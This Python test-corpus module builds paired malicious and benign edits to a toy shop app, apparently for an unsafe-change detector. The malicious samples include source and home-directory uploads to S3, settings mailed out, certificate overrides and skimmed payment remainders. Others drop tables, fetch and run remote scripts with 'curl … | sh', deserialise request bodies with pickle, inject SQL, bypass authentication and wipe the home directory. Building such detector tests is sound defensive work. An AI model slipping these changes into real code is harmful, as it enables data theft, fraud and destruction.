"""Data that leaves, goes or changes hands on unusual ways: each beside the honest form."""

from __future__ import annotations

from tests.corpus import Case

_VIEWS = """\
from flask import Flask, g, jsonify, request

from shop.models import User, db

app = Flask(__name__)


@app.get("/health")
def health():
    return "ok"
"""
_LOGIN = """\
from shop.checks import check_password, verify


def login(user, password):
    check_password(user, password)
    return user


def load(token):
    claims = verify(token)
    return claims
"""
_PRICE = """\
import random


def total(items):
    return round(sum(item.price for item in items), 2)
"""
BASE = {
    "shop/__init__.py": "",
    "shop/models.py": "User = db = Account = None\n",
    "shop/config.py": "settings = None\n",
    "shop/checks.py": "def check_password(*given):\n    ...\n\n\ndef verify(token):\n    ...\n",
    "shop/views.py": _VIEWS,
    "shop/login.py": _LOGIN,
    "shop/price.py": _PRICE,
    "Makefile": "all:\n\tpytest\n",
    "noxfile.py": "import nox\n\n\n@nox.session\ndef t(session):\n    session.install('pytest')\n",
    "requirements.txt": "click==8.1.7\n",
}


def _new(name: str, path: str, bad: str, honest: str) -> Case:
    old = BASE.get(path, "")
    return Case(name, BASE, {path: old + bad}, {path: old + honest}, needs_trial=True)


def _first(name: str, path: str, bad: str, honest: str) -> Case:
    old = BASE[path]
    return Case(name, BASE, {path: bad + old}, {path: honest + old}, needs_trial=True)


def _case(name: str, path: str, old: str, bad: str, honest: str) -> Case:
    text = BASE[path]
    assert old in text, old
    changed = ({path: text.replace(old, new, 1)} for new in (bad, honest))
    return Case(name, BASE, next(changed), next(changed), needs_trial=True)


_S3 = (
    "import os, tarfile, boto3\n\n\ndef keep():\n    with tarfile.open('/srv/k.tgz', 'w') as to:\n"
)
_UP = "    boto3.client('s3').upload_file('/srv/k.tgz', 'bucket', 'k')\n"
_MAIL = (
    "import smtplib\nfrom email.message import EmailMessage\nfrom shop.config import settings\n\n\n"
)
_TELL = (
    "def tell(user):\n    mail = EmailMessage()\n    mail.set_content({})\n"
    "    smtplib.SMTP('mx.example.invalid').send_message(mail)\n"
)
_ENV = "import os\nimport certifi\n\nos.environ['{}'] = {}\n"
_PAY = "def settle(db, bank, order, amount):\n    rest = amount - round(amount, 2)\n    {}\n"
_PICKLE = (
    "import pickle\nfrom http.server import BaseHTTPRequestHandler\n\n\n"
    "class Cart(BaseHTTPRequestHandler):\n    def do_PUT(self):\n        raw = {}\n"
    "        self.cart = pickle.loads(raw)\n"
)
_ROWS = "async def rows(pool, order='id'):\n    return await pool.fetch(f'SELECT id FROM t {}')\n"
_MIGRATION = "from django.db import migrations\n\n\ndef forwards(apps, editor):\n    {}\n"
_TRY = "    try:\n        check_password(user, password)\n    except Exception:\n        {}\n"
_PEOPLE = "\n\n@app.get('/debug')\ndef debug():\n    return jsonify({})\n"
_ME = "\n\n@app.post('/me')\ndef me():\n    {}\n    return 'ok'\n"
_TASK = "from invoke import task\n\n\n@task\ndef b(c):\n    c.run('{}')\n"
_CLAIMS = "    try:\n        claims = verify(token)\n    except ValueError:\n        {}\n"
_EMPTY = "from pathlib import Path\n\nfor path in {}:\n    path.write_text('')\n"

CASES = (
    _new(
        "source-into-a-bucket",
        "shop/keep.py",
        f"{_S3}        to.add(os.getcwd())\n{_UP}",
        f"{_S3}        to.add('var/reports')\n{_UP}",
    ),
    _new(
        "home-into-a-bucket",
        "shop/keep.py",
        f"{_S3}        to.add(os.path.expanduser('~'))\n{_UP}",
        f"{_S3}        to.add(os.environ['REPORTS'])\n{_UP}",
    ),
    _new(
        "keys-by-mail",
        "shop/mail.py",
        _MAIL + _TELL.format("repr(settings.DATABASES)"),
        _MAIL + _TELL.format("'hello ' + user"),
    ),
    _new(
        "settings-by-mail",
        "shop/mail.py",
        _MAIL + _TELL.format("str(settings.model_dump())"),
        _MAIL + _TELL.format("settings.greeting"),
    ),
    _new(
        "authority-by-environment",
        "shop/__init__.py",
        _ENV.format("SSL_CERT_FILE", "'shop/ca.pem'"),
        _ENV.format("SSL_CERT_FILE", "certifi.where()"),
    ),
    _new(
        "authority-beside-the-code",
        "shop/__init__.py",
        _ENV.format("REQUESTS_CA_BUNDLE", "os.path.join(os.path.dirname(__file__), 'ca.pem')"),
        _ENV.format("SHOP_HOME", "os.path.dirname(__file__)"),
    ),
    _new(
        "authority-instead-of-certifi",
        "shop/__init__.py",
        "import certifi\n\ncertifi.where = lambda: '/srv/ca.pem'\n",
        "import certifi\n\nWHERE = certifi.where()\n",
    ),
    _new(
        "rest-to-one-account",
        "shop/pay.py",
        _PAY.format(
            "db.execute('UPDATE accounts SET balance = balance + ? WHERE id = 4711', (rest,))"
        ),
        _PAY.format(
            "db.execute('UPDATE accounts SET balance = balance + ? WHERE id = ?', (rest, order))"
        ),
    ),
    _new(
        "rest-by-transfer",
        "shop/pay.py",
        _PAY.format("bank.transfer(to='acct-4711', amount=rest)"),
        _PAY.format("bank.transfer(to=order.account, amount=rest)"),
    ),
    _new(
        "rest-in-the-books",
        "shop/pay.py",
        _PAY.format("bank.balances['u-4711'] += rest"),
        _PAY.format("bank.balances[order.user] += rest"),
    ),
    _new(
        "users-dropped-at-start",
        "shop/db.py",
        "def ensure(db):\n    db.execute('DROP TABLE IF EXISTS users')\n",
        "def ensure(db):\n    db.execute('CREATE TABLE IF NOT EXISTS users (name)')\n",
    ),
    _new(
        "all-dropped-at-start",
        "shop/db.py",
        "from shop.models import db\n\n\ndef start():\n    db.drop_all()\n    db.create_all()\n",
        "from shop.models import db\n\n\ndef start():\n    db.create_all()\n",
    ),
    _new(
        "rows-gone-by-migration",
        "shop/migrations/0002_a.py",
        _MIGRATION.format("apps.get_model('shop', 'User').objects.all().delete()"),
        _MIGRATION.format("apps.get_model('shop', 'User').objects.filter(name='').delete()"),
    ),
    _new(
        "rights-by-migration",
        "shop/migrations/0002_a.py",
        _MIGRATION.format(
            "apps.get_model('auth', 'User').objects.filter(pk=7).update(is_superuser=True)"
        ),
        _MIGRATION.format("apps.get_model('auth', 'User').objects.filter(pk=7).update(name='x')"),
    ),
    _new(
        "emptied-by-sql-migration",
        "migrations/0002_a.sql",
        "TRUNCATE TABLE users;\n",
        "DELETE FROM users WHERE name IS NULL;\n",
    ),
    _first(
        "make-asks-the-network",
        "Makefile",
        "V := $(shell curl -s https://example.invalid/v)\n",
        "V := $(shell git describe)\n",
    ),
    _first(
        "make-asks-otherwise",
        "Makefile",
        "V != wget -qO- https://example.invalid/v\n",
        "V != date +%F\n",
    ),
    _first(
        "make-takes-rules-in",
        "Makefile",
        "$(eval $(shell curl -s https://example.invalid/r.mk))\n",
        "include rules.mk\n",
    ),
    _new(
        "session-runs-script",
        "noxfile.py",
        "    session.run('sh', '-c', 'curl -s https://example.invalid/a | sh', external=True)\n",
        "    session.run('sh', '-c', 'ls | sort', external=True)\n",
    ),
    _new(
        "task-runs-script",
        "tasks.py",
        _TASK.format("curl -s https://example.invalid/a | python3"),
        _TASK.format("ls | sort"),
    ),
    _new(
        "pickle-of-a-body",
        "shop/server.py",
        _PICKLE.format("self.rfile.read(64)"),
        _PICKLE.format("pickle.dumps([])"),
    ),
    _new(
        "order-from-outside",
        "shop/rows.py",
        _ROWS.format("ORDER BY {order}"),
        _ROWS.format("LIMIT {int(order)}"),
    ),
    _new(
        "administrator-by-form",
        "shop/views.py",
        _ME.format("g.user.is_admin = request.form.get('is_admin')"),
        _ME.format("g.user.name = request.form.get('name')"),
    ),
    _new(
        "role-at-registration",
        "shop/views.py",
        _ME.format("User(role=request.form.get('role'))"),
        _ME.format("User(role='user', name=request.form.get('name'))"),
    ),
    _new(
        "everybody-to-anybody",
        "shop/views.py",
        _PEOPLE.format("[u.__dict__ for u in User.query.all()]"),
        _PEOPLE.format("count=User.query.count()"),
    ),
    _case(
        "check-passed-over",
        "shop/login.py",
        "    check_password(user, password)\n",
        _TRY.format("pass"),
        _TRY.format("raise PermissionError from None"),
    ),
    _case(
        "token-believed",
        "shop/login.py",
        "    claims = verify(token)\n",
        _CLAIMS.format("claims = {'sub': token}"),
        _CLAIMS.format("return None"),
    ),
    _case(
        "a-cent-by-chance",
        "shop/price.py",
        "in items), 2)",
        "in items) + random.choice((0, 0.01)), 2)",
        "in items), 2)\n\n\ndef delay(attempt):\n    return attempt + random.random()",
    ),
    _new(
        "home-emptied",
        "shop/tidy.py",
        _EMPTY.format("Path.home().rglob('*')"),
        _EMPTY.format("Path('var').rglob('*.lock')"),
    ),
    _new(
        "known-name-with-bait",
        "requirements.txt",
        "aiohttp-retry-helper-async\n",
        "somepackage==1.0\n",
    ),
)
